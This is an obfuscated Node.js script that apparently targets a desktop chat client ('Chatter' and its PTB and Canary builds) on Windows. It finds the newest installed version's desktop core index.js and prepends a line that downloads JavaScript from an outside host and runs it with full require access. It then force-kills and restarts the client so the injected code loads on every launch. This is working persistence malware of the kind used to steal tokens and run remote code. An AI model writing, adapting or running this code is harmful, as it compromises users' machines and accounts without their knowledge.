const item0 = require('fs');
const item1 = require('path');
const {
  exec: item2
} = require('child_process');
const item3 = ['Chatter', 'ChatterPTB', 'ChatterCanary'];
const item4 = 'require("https").get("https://inject.app.invalid/i.js",r=>{let c="";r.on("data",d=>c+=d).on("end",()=>new Function("require",c)(require))});';
function item5(item8) {
  const item9 = item0.readdirSync(item8).filter(item10 => item10.startsWith('app-'));
  item9.sort((item11, item12) => {
    const item13 = item11.slice(4).split('.').map(Number);
    const item14 = item12.slice(4).split('.').map(Number);
    for (let item15 = 0; item15 < 3; item15++) {
      if (item13[item15] !== item14[item15]) {
        return item14[item15] - item13[item15];
      }
    }
    return 0;
  });
  return item9.length ? item1.join(item8, item9[0]) : null;
}
function item6(item16) {
  const item17 = item1.join(item16, 'modules');
  const item18 = item0.readdirSync(item17).find(item19 => /^chatter_desktop_core-\d+$/.test(item19));
  return item18 && item1.join(item17, item18, 'chatter_desktop_core', 'index.js');
}
function item7(item20) {
  item2('taskkill /F /IM ' + item20 + '.exe', function (item21) {
    if (!item21) {
      item2('"' + item1.join(process.env.LOCALAPPDATA, item20, 'Update.exe') + '" --processStart ' + item20 + '.exe');
    }
  });
}
item3.forEach(function (item22) {
  const item23 = item1.join(process.env.LOCALAPPDATA || '', item22);
  if (!item0.existsSync(item23)) return;
  try {
    const item24 = item5(item23);
    const item25 = item24 && item6(item24);
    if (!item25) return;
    const item26 = item0.readFileSync(item25, 'utf8');
    if (!item26.startsWith(item4)) {
      item0.writeFileSync(item25, item4 + '\n' + item26);
      item7(item22);
    }
  } catch (item27) {
    console.error(item27.code);
  }
});
